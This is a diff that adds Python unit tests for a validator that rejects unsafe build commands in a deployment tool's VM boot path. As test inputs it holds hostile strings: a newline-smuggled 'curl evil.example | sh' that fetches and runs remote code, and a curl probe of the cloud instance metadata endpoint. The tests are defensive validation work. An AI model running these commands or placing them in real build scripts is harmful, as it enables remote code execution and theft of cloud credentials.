@@ -256,3 +256,28 @@ def test_history_entries_with_nan_are_dropped() -> None:
     good = entry_of(pin(), "success").to_status()
     bad = good | {"revision": 2, "cost": float("nan")}
     assert [h.revision for h in read_history({"history": [good, bad]})] == [3]
+
+
+def _with_build(p: PinnedDecision, build: str, dockerfile: bool = False) -> PinnedDecision:
+    analysis = AnalysisSummary(
+        start_command="python app.py", build_command=build, has_dockerfile=dockerfile
+    )
+    return p.model_copy(update={"analysis": analysis})
+
+
+def test_the_analysed_build_command_a_vm_runs_is_one_line_and_never_reaches_the_metadata() -> None:
+    (v,) = fields(_with_build(pin(), "make\nUNIT\ncurl evil.example | sh"))
+    assert v.startswith("status.decision.analysis.buildCommand: contains a control character")
+    assert v.endswith("a build command is one line")
+    (v,) = fields(_with_build(pin(), "curl -s http://169.254.169.254/latest/meta-data/ && make"))
+    assert v.startswith("status.decision.analysis.buildCommand: names the instance metadata")
+    (v,) = fields(_with_build(pin(), "b" * 2000))
+    assert v == "status.decision.analysis.buildCommand: is 2000 characters; at most 1024"
+    assert fields(_with_build(pin(), "CGO_ENABLED=0 go build -o bin/goweb .")) == []
+
+
+def test_the_build_command_only_matters_where_the_boot_script_runs_it() -> None:
+    """A Dockerfile builds the app on the instance (the analysed command is not run), and
+    kubernetes builds an image (its Dockerfile generator refuses a control character)."""
+    assert fields(_with_build(pin(), "curl 169.254.169.254", dockerfile=True)) == []
+    assert fields(_with_build(pin("kubernetes"), "curl 169.254.169.254")) == []
